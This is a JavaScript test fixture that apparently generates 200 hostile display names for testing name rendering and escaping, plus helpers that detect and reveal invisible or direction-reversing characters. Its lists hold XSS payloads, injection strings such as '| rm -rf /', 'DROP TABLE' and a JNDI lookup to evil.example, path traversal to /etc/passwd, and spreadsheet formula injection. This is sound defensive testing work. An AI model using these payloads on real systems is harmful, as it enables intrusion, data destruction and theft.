// Two hundred names that want to be more than names.

const MARKUP = [
  ...["img src=x onerror=alert(1)", "svg onload=alert(1)", "iframe src=javascript:alert(1)", "body onload=alert(1)", "input autofocus onfocus=alert(1)", "details open ontoggle=alert(1)",
    "video src onerror=alert(1)", "audio src onerror=alert(1)", "object data=javascript:alert(1)", "embed src=javascript:alert(1)", "base href=//evil.example/", "meta http-equiv=refresh content=0",
    "link rel=stylesheet href=//evil.example", "form action=//evil.example", "button formaction=javascript:alert(1)", "math href=javascript:alert(1)", "marquee onstart=alert(1)", "template shadowrootmode=open",
    "style onload=alert(1)", "x-y is=script", "a href=javascript:alert(1)", "table background=javascript:alert(1)", "isindex action=javascript:alert(1)", "portal src=javascript:alert(1)"].map((tag) => `<${tag}>`),
  "</script><script>alert(1)</script>", "<script>alert(1)</script>", "<SCRIPT/XSS SRC=//evil.example/x.js>", "<<SCRIPT>alert(1);//<</SCRIPT>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>", "<!--<script>-->alert(1)", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?>", "]]>", "-->", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<svg><animate onbegin=alert(1) attributeName=x>", "<mXSS><style><img title='</style><img src onerror=alert(1)>'>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
];
const ATTRIBUTES = ["\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "x\" style=\"position:fixed;inset:0", "`onclick=alert(1)", "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "x\tonclick=alert(1)"];
const ADDRESSES = ["javascript:alert(1)//", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/", "https://acme.okta.com@evil.example/", "\\\\evil.example\\share", "file:///etc/passwd", "blob:null/1", "about:blank#x", "view-source:x"];
const ENTITIES = ["&lt;b&gt;", "&#60;script&#62;", "&#x3c;img&#x3e;", "&amp;lt;", "&quot;&apos;", "%3Cscript%3E", "%00", "\\x3cscript\\x3e", "\\u003cscript\\u003e", "+ADw-script+AD4-"];
const TEMPLATES = ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "[[7*7]]", "@(7*7)", "%s %d %n", "{0} {1}", "$& $1 $`", "$$", "{{constructor.constructor('alert(1)')()}}", "*bold* _x_ `code` [link](javascript:alert(1))", "![x](x)", "| a | b |"];
const MEMBERS = ["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "isPrototypeOf", "__defineGetter__", "__lookupSetter__", "then", "length", "name", "undefined", "null", "NaN", "true", "0", "-0", "1e999", "[object Object]"];
const PATHS = ["../../etc/passwd", "..\\..\\windows\\win.ini", "CON", "NUL.txt", "a/b", "a:b", "~root", ".", "..", "name.exe", "a;b", "a?b#c", "%2e%2e%2f"];
const SPREADSHEETS = ["=1+1", "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"//evil.example\")", "a,b", "a;b\"c", "\"quoted\""];
const SHELLS = ["'; DROP TABLE groups; --", "1 OR 1=1", "$(id)", "`id`", "| rm -rf /", "&& calc", "${jndi:ldap://evil.example/x}", "() { :;}; echo", "!!", "*)(uid=*))(|(uid=*", "eq \"x\" or id pr", "\" or \"\" eq \""];
const SELECTORS = ["#main", ".status", "*", "a:hover", "[data-x]", "\"]", "body *", "main > :first-child", "::before", "@import '//evil.example'", "}*{display:none}", "expression(alert(1))", "url(//evil.example)"];
const OBJECTS = ["{\"a\":1}", "]}}", "{\"$ref\":\"#\"}", "[push]", "groups = [\"x\"]", "org2org-app/0oa1", "⟨org2org-app⟩", "⟨person⟩"];
const code = (...points) => points.map((point) => String.fromCodePoint(point)).join("");
const HIDDEN = [0xad, 0x34f, 0x61c, 0x115f, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2061, 0x2062, 0x2063, 0x2066, 0x2067, 0x2068, 0x2069, 0x3164, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xe0001, 0xe0041]
  .map((point) => `Sales${code(point)}gnp.exe`);
const SCRIPTS = ["\u0410cme", "\u043ekta", "\uff41cme", "e\u0301quipe", "\u00e9quipe", "\u05de\u05db\u05d9\u05e8\u05d5\u05ea", "\u0645\u0628\u064a\u0639\u0627\u062a", "\u0e02\u0e32\u0e22", "\u55b6\u696d\u90e8", "\ud83d\ude00", "Z\u0351\u036b\u0343a\u0327lgo"];

const all = [...MARKUP, ...ATTRIBUTES, ...ADDRESSES, ...ENTITIES, ...TEMPLATES, ...MEMBERS, ...PATHS, ...SPREADSHEETS, ...SHELLS, ...SELECTORS, ...OBJECTS, ...HIDDEN, ...SCRIPTS];
export const HOSTILE = [...new Set(all)].slice(0, 200);
console.assert(new Set(all).size >= 200, `only ${new Set(all).size} names`);

const RAW = /[\p{Cc}\u00ad\u034f\u061c\u115f\u1160\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb\u{e0000}-\u{e0fff}]/gu;

/** Whether a text holds characters that show nothing or turn others around. */
export const hides = (text) => text.replaceAll("\n", "").search(RAW) >= 0;

const number = (c) => `\\u{${c.codePointAt(0).toString(16)}}`;

/** The ways in which a name may be written: what hides is named by its number (Unicode TR 36), a tab also by its letter. */
export const shown = (name) => [name.replace(RAW, number), name.replaceAll("\t", "\\t").replace(RAW, number)];
